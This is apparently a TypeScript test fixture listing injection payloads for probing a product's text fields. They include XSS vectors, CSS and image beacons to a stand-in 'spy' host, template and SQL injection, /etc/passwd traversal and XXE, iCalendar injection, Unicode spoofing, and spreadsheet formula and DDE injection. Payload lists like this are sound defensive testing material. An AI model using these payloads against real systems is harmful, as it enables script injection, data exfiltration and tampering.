// What somebody who means harm would write: each tries to run, to call home, to change the page, or to be taken for something else.

/** The shortest bound of a name in the product is 100: each payload fits in it, with the mark of its place. */
const longest = 87

/** `spy` is a server of the stranger's: nothing of ours ever calls it. `ran` is a function the pages under test are given. */
export const payloads = (spy: string): string[] => [
  `<script>ran('script')</script>`,
  `</script><script>ran('closed')</script>`,
  `</title></style></textarea><img src=x onerror=ran('handler')>`,
  `<img src="${spy}/image">`,
  `<svg><script>ran('svg')</script></svg><svg onload=ran('onload')>`,
  `<svg><animate onbegin=ran('begin') attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ran('frame')</script>">`,
  `<details open ontoggle=ran('toggle')><summary>a</summary></details>`,
  `" autofocus onfocus=ran('focus') style="background:url(${spy}/attribute)`,
  `<style>@import "${spy}/style";*{display:none}</style>`,
  `;}*{background:url(${spy}/css)}/*`,
  `javascript:ran('address')//`,
  `<a href="javascript:ran('link')">a</a>`,
  `<base href="${spy}/">`,
  `<meta http-equiv=refresh content="9;url=${spy}/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=ran(1)>`,
  `{{constructor.constructor("ran('braces')")()}}`,
  '${ran("dollar")}#{ran("hash")}<%= ran("percent") %>',
  `{count, plural, one {# a} other {<b>ran</b>}} '{' '' {unclosed`,
  `%3Cscript%3Eran('percent')%3C/script%3E &lt;b&gt;&#x3c;`,
  `../../../../etc/passwd`,
  `__proto__`,
  `'; DROP TABLE plan.action; --`,
  `a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:${spy}/alarm`,
  `]]><!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
  `\u202Efdp.exe\u2066 \u200F\uFEFF\u2028\u2029 e\u0301\u0323\u0323`,
  'W'.repeat(longest),
  ...['=', '+', '-', '@', '\t=', '\r='].map(sign => `${sign}HYPERLINK("${spy}/formula","a")`),
  `=cmd|' /C calc'!A0`,
]

/** As a page gives it back: signs that are not seen and runs of spaces are one space, and the ends are trimmed. */
export const squeezed = (text: string) => text.replaceAll(/[\s\p{Cc}\p{Cf}]+/gu, ' ').trim()
